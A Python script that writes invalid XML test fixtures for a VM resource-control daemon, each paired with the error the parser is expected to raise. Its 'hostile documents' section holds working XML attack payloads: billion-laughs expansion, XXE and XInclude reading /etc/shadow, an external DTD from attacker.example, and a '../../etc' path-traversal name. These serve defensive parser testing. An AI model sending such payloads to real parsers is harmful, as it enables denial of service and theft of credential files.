#!/usr/bin/env python3
# Regenerates invalid/*.xml (run from tests/data/domains). Each file starts with
# <!-- expect: <D-Bus error name> | <gist of the message> -->, checked by tests/unit/test_definition.cpp.
import os
E = "org.resctrld1.Error."
def dom(tune, vcpu="<vcpu placement='static'>4</vcpu>", typ="kvm", name="vm1"):
    return f"""<domain type='{typ}'>
  <name>{name}</name>
  <uuid>c7a5fdbd-edaf-9455-926a-d65c16db1809</uuid>
  {vcpu}
  <cputune>
{tune}
  </cputune>
</domain>
"""
inv = {}
def I(name, err, gist, body):
    inv[name] = (err, gist, body)

I("cachetune-missing-vcpus", "InvalidDefinition", "<cachetune> is missing the required attribute 'vcpus'",
  dom("    <cachetune><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("memorytune-missing-vcpus", "InvalidDefinition", "<memorytune> is missing the required attribute 'vcpus'",
  dom("    <memorytune><node id='0' bandwidth='50'/></memorytune>"))
I("monitor-missing-vcpus", "InvalidDefinition", "<monitor> is missing the required attribute 'vcpus'",
  dom("    <cachetune vcpus='0-1'><monitor level='3'/></cachetune>"))
I("cachetune-bad-vcpus", "InvalidDefinition", "<cachetune> attribute vcpus='0-a' is not a valid vCPU list",
  dom("    <cachetune vcpus='0-a'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("cachetune-reversed-range", "InvalidDefinition", "ends before it starts",
  dom("    <cachetune vcpus='3-1'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("cachetune-empty-vcpus", "InvalidDefinition", "names no vCPU",
  dom("    <cachetune vcpus='1,^1'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("memorytune-bad-vcpus", "InvalidDefinition", "<memorytune> attribute vcpus='' is not a valid vCPU list",
  dom("    <memorytune vcpus=''><node id='0' bandwidth='50'/></memorytune>"))
I("overlapping-cachetunes", "InvalidDefinition", "cachetune vcpus='2-5' overlaps cachetune vcpus='0-3' on vcpu 2-3",
  dom("""    <cachetune vcpus='0-3'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>
    <cachetune vcpus='2-5'><cache id='1' level='3' type='both' size='3' unit='MiB'/></cachetune>""",
      vcpu="<vcpu placement='static'>8</vcpu>"))
I("memorytune-overlaps-cachetune", "InvalidDefinition", "memorytune vcpus='0' overlaps cachetune vcpus='0-1' on vcpu 0",
  dom("""    <cachetune vcpus='0-1'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>
    <memorytune vcpus='0'><node id='0' bandwidth='50'/></memorytune>"""))
I("overlapping-memorytunes", "InvalidDefinition", "memorytune vcpus='1-2' overlaps memorytune vcpus='0-1' on vcpu 1",
  dom("""    <memorytune vcpus='0-1'><node id='0' bandwidth='50'/></memorytune>
    <memorytune vcpus='1-2'><node id='0' bandwidth='50'/></memorytune>"""))
I("identical-cachetunes", "InvalidDefinition", "cachetune vcpus='0' has the same vCPUs as cachetune vcpus='0'",
  dom("""    <cachetune vcpus='0'><cache id='0' level='3' type='code' size='3' unit='MiB'/></cachetune>
    <cachetune vcpus='0'><cache id='0' level='3' type='data' size='3' unit='MiB'/></cachetune>"""))
I("colliding-both-code", "InvalidDefinition", "<cache level='3' id='0' type='code'> collides with type='both'",
  dom("""    <cachetune vcpus='0-1'>
      <cache id='0' level='3' type='both' size='3' unit='MiB'/>
      <cache id='0' level='3' type='code' size='3' unit='MiB'/>
    </cachetune>"""))
I("colliding-code-code", "InvalidDefinition", "<cache level='3' id='0' type='code'> collides with type='code'",
  dom("""    <cachetune vcpus='0-1'>
      <cache id='0' level='3' type='code' size='7680'/>
      <cache id='0' level='3' type='code' size='3840'/>
    </cachetune>"""))
I("colliding-data-both", "InvalidDefinition", "<cache level='3' id='1' type='both'> collides with type='data'",
  dom("""    <cachetune vcpus='0-1'>
      <cache id='1' level='3' type='data' size='3' unit='MiB'/>
      <cache id='1' level='3' type='both' size='3' unit='MiB'/>
    </cachetune>"""))
I("cache-missing-id", "InvalidDefinition", "<cache> is missing the required attribute 'id'",
  dom("    <cachetune vcpus='0'><cache level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("cache-missing-level", "InvalidDefinition", "<cache> is missing the required attribute 'level'",
  dom("    <cachetune vcpus='0'><cache id='0' type='both' size='3' unit='MiB'/></cachetune>"))
I("cache-missing-type", "InvalidDefinition", "<cache> is missing the required attribute 'type'",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' size='3' unit='MiB'/></cachetune>"))
I("cache-missing-size", "InvalidDefinition", "<cache> is missing the required attribute 'size'",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both'/></cachetune>"))
I("cache-bad-type", "InvalidDefinition", "<cache> attribute type='unified' must be 'both', 'code' or 'data'",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='unified' size='3' unit='MiB'/></cachetune>"))
I("cache-bad-id", "InvalidDefinition", "<cache> attribute id='zero' is not an unsigned integer",
  dom("    <cachetune vcpus='0'><cache id='zero' level='3' type='both' size='3' unit='MiB'/></cachetune>"))
I("cache-negative-size", "InvalidDefinition", "<cache> attribute size='-1' is not an unsigned integer",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='-1'/></cachetune>"))
I("cache-fractional-size", "InvalidDefinition", "<cache> attribute size='1.5' is not an unsigned integer",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='1.5' unit='MiB'/></cachetune>"))
I("cache-unknown-unit", "InvalidDefinition", "unknown unit 'MiBs'",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='3' unit='MiBs'/></cachetune>"))
I("cache-size-overflow", "InvalidDefinition", "overflows 64 bits",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='17179869184' unit='GiB'/></cachetune>"))
I("cache-size-too-large", "InvalidDefinition", "<cache> attribute size='18446744073709551616' is not an unsigned integer",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='18446744073709551616' unit='B'/></cachetune>"))
I("monitor-missing-level", "InvalidDefinition", "<monitor> is missing the required attribute 'level'",
  dom("    <cachetune vcpus='0-1'><monitor vcpus='0'/></cachetune>"))
I("monitor-level-2", "InvalidDefinition", "<monitor level='2'> is not supported: only level 3",
  dom("    <cachetune vcpus='0-1'><monitor level='2' vcpus='0'/></cachetune>"))
I("monitor-empty-after-truncation", "InvalidDefinition", "monitor vcpus='6' names no vCPU below the domain's vCPU count 4",
  dom("    <cachetune vcpus='0-7'><cache id='0' level='3' type='both' size='3' unit='MiB'/><monitor level='3' vcpus='6'/></cachetune>"))
I("monitor-outside-cachetune", "InvalidDefinition", "monitor vcpus='2' is not within the vCPUs of its cachetune (vcpu 2 outside 0-1)",
  dom("    <cachetune vcpus='0-1'><cache id='0' level='3' type='both' size='768'/><monitor level='3' vcpus='2'/></cachetune>"))
I("monitor-outside-memorytune", "InvalidDefinition", "monitor vcpus='1-2' is not within the vCPUs of its memorytune (vcpu 2 outside 0-1)",
  dom("    <memorytune vcpus='0-1'><node id='0' bandwidth='50'/><monitor vcpus='1-2'/></memorytune>"))
I("identical-cache-monitors", "InvalidDefinition", "monitor vcpus='1' has the same vCPUs as monitor vcpus='1' (two cache monitors",
  dom("    <cachetune vcpus='0-3'><cache id='0' level='3' type='both' size='3' unit='MiB'/><monitor level='3' vcpus='1'/><monitor level='3' vcpus='1'/></cachetune>"))
I("identical-bandwidth-monitors", "InvalidDefinition", "two memory-bandwidth monitors cannot share a vCPU set",
  dom("    <memorytune vcpus='0-3'><monitor vcpus='2-3'/><monitor vcpus='2,3'/></memorytune>"))
I("overlapping-monitors", "InvalidDefinition", "monitor vcpus='1-2' overlaps monitor vcpus='0-1' on vcpu 1 (only the default monitor",
  dom("    <cachetune vcpus='0-3'><cache id='0' level='3' type='both' size='3' unit='MiB'/><monitor level='3' vcpus='0-1'/><monitor level='3' vcpus='1-2'/></cachetune>"))
I("overlapping-monitors-monitor-only", "InvalidDefinition", "monitor vcpus='2' overlaps monitor vcpus='2-3' on vcpu 2 (without an allocation",
  dom("    <cachetune vcpus='2-3'><monitor level='3' vcpus='2-3'/><monitor level='3' vcpus='2'/></cachetune>"))
I("overlapping-monitors-across-kinds", "InvalidDefinition", "monitor vcpus='0-1' overlaps monitor vcpus='1' on vcpu 1",
  dom("""    <cachetune vcpus='0-3'><cache id='0' level='3' type='both' size='3' unit='MiB'/><monitor level='3' vcpus='1'/></cachetune>
    <memorytune vcpus='0-3'><monitor vcpus='0-1'/></memorytune>"""))
I("duplicate-node", "InvalidDefinition", "<node id='0'> is given twice for vCPUs 0",
  dom("    <memorytune vcpus='0'><node id='0' bandwidth='50'/><node id='0' bandwidth='60'/></memorytune>"))
I("duplicate-node-merged", "InvalidDefinition", "<node id='1'> is given twice for vCPUs 0-1",
  dom("""    <memorytune vcpus='0-1'><node id='1' bandwidth='50'/></memorytune>
    <memorytune vcpus='0-1'><node id='1' bandwidth='60'/></memorytune>"""))
I("node-missing-bandwidth", "InvalidDefinition", "<node> is missing the required attribute 'bandwidth'",
  dom("    <memorytune vcpus='0'><node id='0'/></memorytune>"))
I("node-missing-id", "InvalidDefinition", "<node> is missing the required attribute 'id'",
  dom("    <memorytune vcpus='0'><node bandwidth='20'/></memorytune>"))
I("node-negative-bandwidth", "InvalidDefinition", "<node> attribute bandwidth='-5' is not an unsigned integer",
  dom("    <memorytune vcpus='0'><node id='0' bandwidth='-5'/></memorytune>"))
I("cachetune-not-kvm", "NotSupported", "only supported for KVM domains",
  dom("    <cachetune vcpus='0'><cache id='0' level='3' type='both' size='3' unit='MiB'/></cachetune>", typ="qemu"))
I("missing-name", "InvalidDefinition", "missing the required element <name>",
  "<domain type='kvm'><vcpu>2</vcpu></domain>\n")
I("name-with-slash", "InvalidDefinition", "must not contain '/'",
  dom("", name="../../etc"))
I("bad-uuid", "InvalidDefinition", "<uuid> 'not-a-uuid' is malformed",
  "<domain type='kvm'><name>vm1</name><uuid>not-a-uuid</uuid></domain>\n")
I("vcpu-zero", "InvalidDefinition", "<vcpu>0</vcpu> is not a vCPU count",
  dom("", vcpu="<vcpu>0</vcpu>"))
I("vcpu-current-above-max", "InvalidDefinition", "<vcpu> attribute current='5' exceeds the maximum vCPU count 4",
  dom("", vcpu="<vcpu current='5'>4</vcpu>"))
I("wrong-root", "InvalidDefinition", "the root element is <capabilities>",
  "<capabilities><host/></capabilities>\n")
I("not-well-formed", "InvalidDefinition", "XML is not well-formed",
  "<domain type='kvm'><name>vm1</name>\n")
I("two-metadata-cputunes", "InvalidDefinition", "holds more than one <cputune",
  """<domain type='kvm'><name>vm1</name><metadata>
  <rd:cputune xmlns:rd='urn:resctrld:cputune:1'/><rd:cputune xmlns:rd='urn:resctrld:cputune:1'/>
</metadata></domain>
""")
I("metadata-overlapping", "InvalidDefinition", "cachetune vcpus='1-2' overlaps cachetune vcpus='0-1' on vcpu 1",
  """<domain type='qemu'><name>vm1</name><vcpu>4</vcpu><metadata>
  <rd:cputune xmlns:rd='urn:resctrld:cputune:1'>
    <rd:cachetune vcpus='0-1'><rd:cache id='0' level='3' type='both' size='3' unit='MiB'/></rd:cachetune>
    <rd:cachetune vcpus='1-2'><rd:cache id='0' level='3' type='both' size='3' unit='MiB'/></rd:cachetune>
  </rd:cputune>
</metadata></domain>
""")
I("domstatus-bad-pid", "InvalidDefinition", "<domstatus> attribute pid='x' is not a process id",
  "<domstatus state='running' pid='x'><domain type='kvm'><name>vm1</name></domain></domstatus>\n")
I("domstatus-duplicate-vcpu", "InvalidDefinition", "lists vcpu id='0' twice",
  "<domstatus state='running' pid='100'><vcpus><vcpu id='0' pid='101'/><vcpu id='0' pid='102'/></vcpus><domain type='kvm'><name>vm1</name></domain></domstatus>\n")
I("domstatus-without-domain", "InvalidDefinition", "must contain exactly one <domain>",
  "<domstatus state='running' pid='100'/>\n")
# Hostile documents.
I("billion-laughs", "InvalidDefinition", "XML refused: document type declarations (<!DOCTYPE>) are not accepted", """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain type='kvm'><name>&lol9;</name></domain>
""")
I("external-entity-shadow", "InvalidDefinition", "XML refused: document type declarations (<!DOCTYPE>) are not accepted", """<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY xxe SYSTEM "file:///etc/shadow"> ]>
<domain type='kvm'><name>&xxe;</name></domain>
""")
I("external-dtd", "InvalidDefinition", "XML refused: document type declarations (<!DOCTYPE>) are not accepted", """<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://attacker.example/evil.dtd">
<domain type='kvm'><name>vm1</name></domain>
""")
I("undeclared-entity", "InvalidDefinition", "entity references are not accepted (&foo;)",
  "<domain type='kvm'><name>&foo;</name></domain>\n")
I("xinclude", "InvalidDefinition", "XInclude is not accepted", """<domain type='kvm' xmlns:xi='http://www.w3.org/2001/XInclude'>
  <name>vm1</name>
  <xi:include href='file:///etc/shadow' parse='text'/>
</domain>
""")
deep = "<domain type='kvm'><name>vm1</name><metadata>" + "<a>" * 2000 + "</a>" * 2000 + "</metadata></domain>\n"
I("deeply-nested", "InvalidDefinition", "Excessive depth in document", deep)
deep65 = "<domain type='kvm'><name>vm1</name><metadata>" + "<a>" * 70 + "</a>" * 70 + "</metadata></domain>\n"
I("nested-beyond-64", "InvalidDefinition", "XML refused: elements nest deeper than 64 levels", deep65)

for name, (err, gist, body) in inv.items():
    with open(f"invalid/{name}.xml", "w") as f:
        header = f"<!-- expect: {E}{err} | {gist} -->\n"
        if body.startswith("<?xml"):
            first, rest = body.split("\n", 1)
            f.write(first + "\n" + header + rest)
        else:
            f.write(header + body)
print(len(inv))
